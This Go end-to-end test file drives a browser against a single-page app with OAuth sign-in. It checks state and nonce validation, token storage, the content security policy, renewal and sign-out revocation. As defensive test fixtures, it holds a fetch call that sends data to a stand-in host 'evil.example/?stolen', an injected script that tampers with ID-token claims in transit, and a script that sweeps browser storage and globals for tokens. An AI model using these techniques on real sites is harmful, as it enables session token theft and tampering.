//go:build verify

package webtest

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"example.com/cognitocdk/local"
)

// spaSteps are the page without a backend, as ada sees it.
func (a *app) spaSteps(t *testing.T, ctx context.Context) {
	if _, err := chromedp.Call(ctx, network.ClearBrowserCookies, cdp.Empty{}); err != nil { // what the sign-out's step put back
		t.Fatal(err)
	}
	a.allowOrigin(t)
	watch := a.watch(t, ctx)
	for _, step := range []struct {
		name string
		run  func(*testing.T, context.Context, *exchanges)
	}{
		{"another's state is refused", a.spaForeignState},
		{"an answer that is not this sign-in's is refused", a.spaForeignAnswers},
		{"sign-in, who am I, my tenant", a.spaSignsIn},
		{"a script on the page finds no token", a.spaScripts},
		{"my files", a.spaFiles},
		{"tokens are renewed, once for all", a.spaRenews},
		{"pictures", a.spaPictures},
		{"a reload forgets", a.spaForgets},
		{"sign-out", a.spaSignsOut},
	} {
		if !t.Run(step.name, func(t *testing.T) { step.run(t, ctx, watch) }) {
			t.FailNow()
		}
	}
}

// allowOrigin sets the API's CORS once more: the endpoint keeps that of a template under names that it does not read,
// and answers browsers 403.
func (a *app) allowOrigin(t *testing.T) {
	t.Helper()
	id, _, _ := strings.Cut(strings.TrimPrefix(a.outputs["ApiUrl"], "https://"), ".")
	body := `{"corsConfiguration":{"allowOrigins":["` + a.url + `"],"allowMethods":["GET"],"allowHeaders":["authorization","content-type"]}}`
	r := must(http.NewRequestWithContext(t.Context(), http.MethodPatch, a.endpoint.URL+"/v2/apis/"+id, strings.NewReader(body)))(t)
	r.Header.Set("Content-Type", "application/json")
	sum := sha256.Sum256([]byte(body))
	signer := must(a.admin.Credentials.Retrieve(t.Context()))(t)
	if err := v4.NewSigner().SignHTTP(t.Context(), signer, r, hex.EncodeToString(sum[:]), "apigateway", local.Region, time.Now()); err != nil {
		t.Fatal(err)
	}
	answer := must(a.endpoint.HTTPClient().Do(r))(t)
	answer.Body.Close()
	if answer.StatusCode >= 300 {
		t.Fatalf("CORS of API %s: %s", id, answer.Status)
	}
}

// exchanges are the answers of the token endpoint, and what else was posted.
type exchanges struct {
	mu     sync.Mutex
	tokens []network.RequestID
	posts  map[network.RequestID]*network.Request
}

func (a *app) watch(t *testing.T, ctx context.Context) *exchanges {
	t.Helper()
	e := &exchanges{posts: map[network.RequestID]*network.Request{}}
	if err := chromedp.Listen(ctx, func(event any) {
		e.mu.Lock()
		defer e.mu.Unlock()
		switch event := event.(type) {
		case *network.EventRequestWillBeSent:
			if event.Request.Method == http.MethodPost {
				e.posts[event.RequestID] = event.Request
			}
		case *network.EventLoadingFinished:
			if r := e.posts[event.RequestID]; r != nil && strings.HasSuffix(r.URL, "/oauth2/token") {
				e.tokens = append(e.tokens, event.RequestID)
			}
		}
	}); err != nil {
		t.Fatal(err)
	}
	return e
}

func (e *exchanges) count() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return len(e.tokens)
}

// last is what the token endpoint answered last.
func (e *exchanges) last(t *testing.T, ctx context.Context) map[string]any {
	t.Helper()
	e.mu.Lock()
	id := e.tokens[len(e.tokens)-1]
	e.mu.Unlock()
	body, err := chromedp.Call(ctx, network.GetResponseBody, network.GetResponseBodyParams{RequestID: id})
	if err != nil {
		t.Fatal(err)
	}
	var answer map[string]any
	if err := json.Unmarshal([]byte(body.Body), &answer); err != nil {
		t.Fatalf("the token endpoint answered %q: %v", body.Body, err)
	}
	return answer
}

// posted reports whether something was posted whose X-Amz-Target ends so.
func (e *exchanges) posted(target string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, r := range e.posts {
		for name, value := range r.Headers {
			if text, ok := value.(string); ok && strings.EqualFold(name, "X-Amz-Target") && strings.HasSuffix(text, target) {
				return true
			}
		}
	}
	return false
}

// toPages begins a sign-in and returns the address of the hosted pages.
func (a *app) toPages(t *testing.T, ctx context.Context) *url.URL {
	t.Helper()
	do(t, ctx, "to the hosted pages", chromedp.Navigate(a.url+"/spa"), chromedp.Click(css("#sign-in")), chromedp.WaitVisible(css("#password")))
	return must(url.Parse(a.location(t, ctx)))(t)
}

func (a *app) spaSignIn(t *testing.T, ctx context.Context, until string) {
	t.Helper()
	a.toPages(t, ctx)
	do(t, ctx, "sign-in without a backend", chromedp.SendKeys(css("#username"), ada), chromedp.SendKeys(css("#password"), password),
		chromedp.Click(css("button[type=submit]")), chromedp.WaitVisible(css(until)))
}

const nothingStored = `(async () => JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}) + document.cookie +
	JSON.stringify(await indexedDB.databases()) + JSON.stringify(await caches.keys()))()`

func (a *app) spaForeignState(t *testing.T, ctx context.Context, e *exchanges) {
	before := e.count()
	refused := func(step, address string) {
		t.Helper()
		do(t, ctx, step, chromedp.Navigate(address), chromedp.WaitVisible(css("#trouble:not(:empty)")))
		contains(t, step, ask(t, ctx, step, chromedp.Text(css("#trouble"))), "not begun here")
		if at := a.location(t, ctx); at != a.url+"/spa" {
			t.Errorf("%s: the code stays in the address: %s", step, at)
		}
		if left := evaluate[string](t, ctx, nothingStored); left != "{}{}[][]" {
			t.Errorf("%s: left in the browser: %s", step, left)
		}
	}
	refused("nobody began", a.url+"/callback?code=x&state=spa.foreign")
	mine := a.toPages(t, ctx).Query().Get("state")
	refused("another state", a.url+"/callback?code=x&state=spa.foreign")
	refused("the right state after a wrong one", a.url+"/callback?code=x&state="+mine)
	mine = a.toPages(t, ctx).Query().Get("state")
	refused("two states", a.url+"/callback?code=x&state="+mine+"&state=spa.x")
	mine = a.toPages(t, ctx).Query().Get("state")
	other, end := chromedp.NewContext(ctx)
	defer end()
	if err := chromedp.Do(other); err != nil {
		t.Fatal(err)
	}
	do(t, other, "another tab", chromedp.Navigate(a.url+"/callback?code=x&state="+mine), chromedp.WaitVisible(css("#trouble:not(:empty)")))
	contains(t, "another tab", ask(t, other, "another tab", chromedp.Text(css("#trouble"))), "not begun here")
	if after := e.count(); after != before {
		t.Errorf("%d codes were exchanged, want the state looked at first", after-before)
	}
}

// spaForeignAnswers puts itself between the page and the token endpoint, and changes a claim of the ID token.
func (a *app) spaForeignAnswers(t *testing.T, ctx context.Context, _ *exchanges) {
	for _, change := range []string{`nonce = "another"`, `nonce = undefined`, `aud = "another"`, `iss += "x"`, `token_use = "access"`, `exp = 1`, `exp = undefined`} {
		script, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `{
			const real = fetch;
			window.fetch = async (to, options) => {
				const answer = await real(to, options);
				if (!to.endsWith("/oauth2/token")) return answer;
				const given = await answer.json();
				const [head, body, signature] = given.id_token.split(".");
				const user = JSON.parse(atob(body.replaceAll("-", "+").replaceAll("_", "/")));
				user.` + change + `;
				given.id_token = [head, btoa(JSON.stringify(user)).replaceAll("+", "-").replaceAll("/", "_"), signature].join(".");
				return new Response(JSON.stringify(given), answer);
			};
		}`})
		if err != nil {
			t.Fatal(err)
		}
		a.spaSignIn(t, ctx, "#trouble:not(:empty)")
		contains(t, change, ask(t, ctx, change, chromedp.Text(css("#trouble"))), "could not be confirmed")
		if signedIn := evaluate[bool](t, ctx, `!document.getElementById("signed-in").hidden`); signedIn {
			t.Errorf("%s: somebody is signed in", change)
		}
		if _, err := chromedp.Call(ctx, page.RemoveScriptToEvaluateOnNewDocument, page.RemoveScriptToEvaluateOnNewDocumentParams{Identifier: script.Identifier}); err != nil {
			t.Fatal(err)
		}
	}
}

func (a *app) spaSignsIn(t *testing.T, ctx context.Context, _ *exchanges) {
	do(t, ctx, "signed out", chromedp.Navigate(a.url+"/spa"), chromedp.WaitVisible(css("#sign-in")))
	accessible(t, ctx, "/spa, signed out")
	shoot(t, ctx, "20-spa-start")
	asked := a.toPages(t, ctx).Query()
	if asked.Get("code_challenge_method") != "S256" || len(asked.Get("code_challenge")) != 43 || len(asked.Get("nonce")) != 43 || len(asked.Get("state")) != len("spa.")+43 ||
		asked.Get("client_id") != a.outputs["ClientIdWeb"] {
		t.Errorf("asked with %v, want a challenge, nonce and state of the public client", asked)
	}
	a.spaSignIn(t, ctx, `[data-path="/tenants/another-tenant"]`)
	do(t, ctx, "the files", chromedp.WaitVisible(css("#list li")))
	text := ask(t, ctx, "text", chromedp.Text(css("main")))
	contains(t, "/spa", text, "Hello, Ada Lovelace", ada, "acme", "users/us-east-1:")
	if at := a.location(t, ctx); at != a.url+"/spa" {
		t.Errorf("the sign-in ends at %s, want /spa without a code in the address", at)
	}
	for path, status := range map[string]string{"/me": "200", "/tenants/acme": "200", "/tenants/another-tenant": "403"} {
		if badge := ask(t, ctx, "API "+path, chromedp.Text(css(`[data-path="`+path+`"]`))); badge != status {
			t.Errorf("API %s: %q, want %s", path, badge, status)
		}
	}
	shoot(t, ctx, "21-spa")
}

// spaScripts is what an injected script finds that came too late to stand in between: every storage, every global,
// everything the browser keeps about requests.
func (a *app) spaScripts(t *testing.T, ctx context.Context, e *exchanges) {
	if left := evaluate[string](t, ctx, nothingStored); left != "{}{}[][]" {
		t.Errorf("stored in the browser: %s", left)
	}
	found := evaluate[string](t, ctx, `(() => {
		let text = document.documentElement.outerHTML + JSON.stringify(performance.getEntries()) + JSON.stringify(history.state) + document.referrer + name;
		for (const key of Object.getOwnPropertyNames(window)) {
			try { text += key + String(window[key]) + JSON.stringify(window[key]); } catch {}
		}
		return text;
	})()`)
	answer := e.last(t, ctx)
	for _, name := range []string{"access_token", "id_token", "refresh_token"} {
		if token, _ := answer[name].(string); token == "" || strings.Contains(found, token) {
			t.Errorf("a script finds the %s, or there was none", name)
		}
	}
	if strings.Contains(found, "eyJ") || strings.Contains(found, "X-Amz-S") {
		t.Error("a script finds something that looks like a token or a signed address")
	}
	if len(found) < 10_000 {
		t.Errorf("the script read %d characters, want the page and all globals", len(found))
	}
	ran := evaluate[string](t, ctx, `(() => { try { const s = document.createElement("script"); s.textContent = "window.injected = true"; document.body.append(s); } catch (e) { return e.name } return window.injected ? "ran" : "stopped" })()`)
	markup := evaluate[string](t, ctx, `(() => { try { document.body.innerHTML += "<p>x</p>"; return "written" } catch (e) { return e.name } })()`)
	if ran != "TypeError" || markup != "TypeError" {
		t.Errorf("a script from a string: %s, markup from a string: %s; want both refused by the policy", ran, markup)
	}
	for _, to := range []string{"https://evil.example/?stolen", a.url + "/me"} {
		violated := evaluate[string](t, ctx, `new Promise(done => { addEventListener("securitypolicyviolation", e => done(e.effectiveDirective), {once: true}); fetch(`+quoted(to)+`).catch(() => {}); setTimeout(() => done("nothing"), 2000) })`)
		if violated != "connect-src" {
			t.Errorf("sending to %s: stopped by %s, want connect-src", to, violated)
		}
	}
}

func (a *app) spaFiles(t *testing.T, ctx context.Context, _ *exchanges) {
	const name, body = "it's (50%) #1 + ü?.txt", "by the page itself"
	file := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(file, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "upload", chromedp.SetUploadFiles(css("#file"), []string{file}), chromedp.Click(css("#upload button")), chromedp.WaitVisible(css(`[aria-label="Download `+name+`"]`)))
	if got := a.read(t, a.prefix(t, ctx)+name); got != body {
		t.Errorf("the bucket holds %q, want %q", got, body)
	}
	into := t.TempDir()
	if _, err := chromedp.CallBrowser(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: into}); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "download", chromedp.Click(css(`[aria-label="Download `+name+`"]`)))
	var downloaded []byte
	for range 100 {
		if found, _ := filepath.Glob(filepath.Join(into, "it*ü*.txt")); len(found) == 1 {
			downloaded = must(os.ReadFile(found[0]))(t)
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if string(downloaded) != body {
		t.Errorf("downloaded %q, want %q", downloaded, body)
	}
	empty := filepath.Join(t.TempDir(), "empty")
	if err := os.WriteFile(empty, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "nothing to upload", chromedp.SetUploadFiles(css("#file"), []string{empty}), chromedp.Click(css("#upload button")), chromedp.WaitVisible(css("#trouble:not(:empty)")))
	contains(t, "an empty file", ask(t, ctx, "text", chromedp.Text(css("#trouble"))), "at least one byte")
}

// spaRenews moves the page's clock to half a minute before the tokens end.
func (a *app) spaRenews(t *testing.T, ctx context.Context, e *exchanges) {
	before := e.count()
	evaluate[bool](t, ctx, `(() => { const now = Date.now; Date.now = () => now() + 14.5 * 60_000; for (let i = 0; i < 5; i++) document.getElementById("again").click(); return true })()`)
	do(t, ctx, "renewed", chromedp.WaitNotPresent(css("#status:not(:empty)")))
	if got := ask(t, ctx, "renewals", chromedp.Text(css("#renewals"))); got != "1" || e.count() != before+1 {
		t.Errorf("renewed %s times by %d requests, want one for five", got, e.count()-before)
	}
	contains(t, "after the renewal", ask(t, ctx, "text", chromedp.Text(css("#list"))), "it's (50%)")
}

func (a *app) spaPictures(t *testing.T, ctx context.Context, _ *exchanges) {
	a.looks(t, ctx, func(name string) {
		accessible(t, ctx, "/spa, "+name)
		shoot(t, ctx, "22-spa-"+name)
	})
}

func (a *app) spaForgets(t *testing.T, ctx context.Context, _ *exchanges) {
	do(t, ctx, "reload", chromedp.Reload(), chromedp.WaitVisible(css("#sign-in")))
	if left := evaluate[string](t, ctx, nothingStored); left != "{}{}[][]" {
		t.Errorf("left in the browser: %s", left)
	}
}

func (a *app) spaSignsOut(t *testing.T, ctx context.Context, e *exchanges) {
	a.spaSignIn(t, ctx, "#list li")
	refresh, _ := e.last(t, ctx)["refresh_token"].(string)
	renew := func() int {
		r := must(a.endpoint.HTTPClient().PostForm(a.endpoint.URL+"/oauth2/token", url.Values{
			"grant_type": {"refresh_token"}, "client_id": {a.outputs["ClientIdWeb"]}, "refresh_token": {refresh},
		}))(t)
		r.Body.Close()
		return r.StatusCode
	}
	if got := renew(); got != http.StatusOK {
		t.Fatalf("before the sign-out the refresh token is answered %d, want 200", got)
	}
	do(t, ctx, "sign out", chromedp.Click(css("#sign-out")), chromedp.WaitVisible(css(`a[href="/sign-in"]`)))
	if at := a.location(t, ctx); at != a.url+"/" || !e.posted(".RevokeToken") {
		t.Errorf("signed out at %s, revoked: %v; want the start page", at, e.posted(".RevokeToken"))
	}
	if got := renew(); got != http.StatusBadRequest {
		t.Errorf("after the sign-out the refresh token is answered %d, want 400", got)
	}
	do(t, ctx, "back", chromedp.NavigateBack(), chromedp.WaitVisible(css("#sign-in")))
}
